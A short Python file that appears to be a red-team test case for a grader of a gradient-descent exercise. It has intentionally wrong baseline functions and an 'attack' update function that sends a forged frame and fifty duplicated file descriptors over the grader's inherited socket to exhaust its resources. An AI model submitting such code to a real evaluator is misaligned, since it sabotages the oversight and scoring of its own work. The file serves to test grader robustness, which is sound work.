"""Sends descriptors along with its answer, so that the grader's process fills up with them."""

import array
import os
import socket

import numpy as np

EXERCISE = "update_rule"
REQUIREMENT = ("forged or extra frames", "no socket")
SHOWS = ("error", "killed", "timeout")


# --- baseline
def update(parameter, gradient, learning_rate):
    return parameter + learning_rate * gradient


def descend(gradient, start, learning_rate, epochs):
    return np.zeros(epochs + 1)


def descend_until(gradient, start, learning_rate, tolerance, max_epochs=1000):
    return np.array([start])


# --- attack
def update(parameter, gradient, learning_rate):
    body = b"\x97\x01\xa5value\xcb" + bytes(8) + b"\xa0\x90\x90\x90"
    handed = array.array("i", [os.open(os.path.dirname(np.__file__), os.O_RDONLY)] * 50)
    wire = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM, 0, os.dup(3))
    wire.sendmsg([len(body).to_bytes(4, "big") + body], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, handed)])
    return parameter + learning_rate * gradient
